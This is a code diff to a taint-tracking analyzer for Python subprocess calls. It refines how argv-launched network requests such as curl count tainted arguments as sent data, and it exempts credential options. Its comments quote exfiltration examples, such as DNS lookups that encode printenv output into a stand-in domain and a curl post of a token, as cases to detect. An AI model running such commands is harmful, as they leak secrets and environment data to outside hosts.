@@ -100,6 +100,9 @@ export function runShell(walker: PythonWalker, call: CallInfo, command: PyValue,
   return { taint: outputTaint(facts) | (command.taint & (NETWORK | SECRET)) };
 }
 
+/** Options whose value is the request's own credential (a header, a login), not data it sends. */
+const CREDENTIAL_OPTION_RE = /^(?:-H|--header|-u|--user|--oauth2-bearer|--proxy-user|--http-user|--http-password|--password)$/;
+
 /** An argument vector started without a shell, read as the equivalent command line. */
 export function runArgv(walker: PythonWalker, call: CallInfo, argv: PyValue[], launch: Launch): PyValue {
   const how = withHidden(call, launch);
@@ -114,10 +117,18 @@ export function runArgv(walker: PythonWalker, call: CallInfo, argv: PyValue[], l
   // The shell sees each word as text only: a name looked up or an address fetched that a tainted element
   // spells (`["nslookup", f"{hex_of_env}.zone.example"]`) carries that element's data, as it does in a
   // shell script (`nslookup "$(printenv | xxd -p).zone.example"`).
+  // A request that sends data (`curl -d f"t={token}" URL`) sends the tainted elements that are not its
+  // own credential (a header or `-u` value): what the shell reads as a literal word is the Python value.
   for (const f of facts) {
-    if (f.kind !== 'network' || f.target === undefined) continue;
-    const spelled = argv.filter((a) => a.taint !== 0 && a.strs?.includes(f.target as string) === true);
-    const carried = spelled.reduce((t, a) => t | a.taint, 0);
+    if (f.kind !== 'network') continue;
+    let carried = 0;
+    argv.forEach((a, i) => {
+      if (a.taint === 0 || i === 0) return;
+      const spells = f.target !== undefined && a.strs?.includes(f.target) === true;
+      const credential =
+        CREDENTIAL_OPTION_RE.test(textOf(argv[i - 1] as PyValue, '')) || /^\s*authorization:/i.test(textOf(a, ''));
+      if (spells || (f.op === 'send' && !credential)) carried |= a.taint;
+    });
     if (carried !== 0) f.sends = taintList(taintBits(f.sends) | carried);
   }
   const script = argv.some((a, i) => i > 0 && a.script === true) && /python/.test(textOf(argv[0] as PyValue));
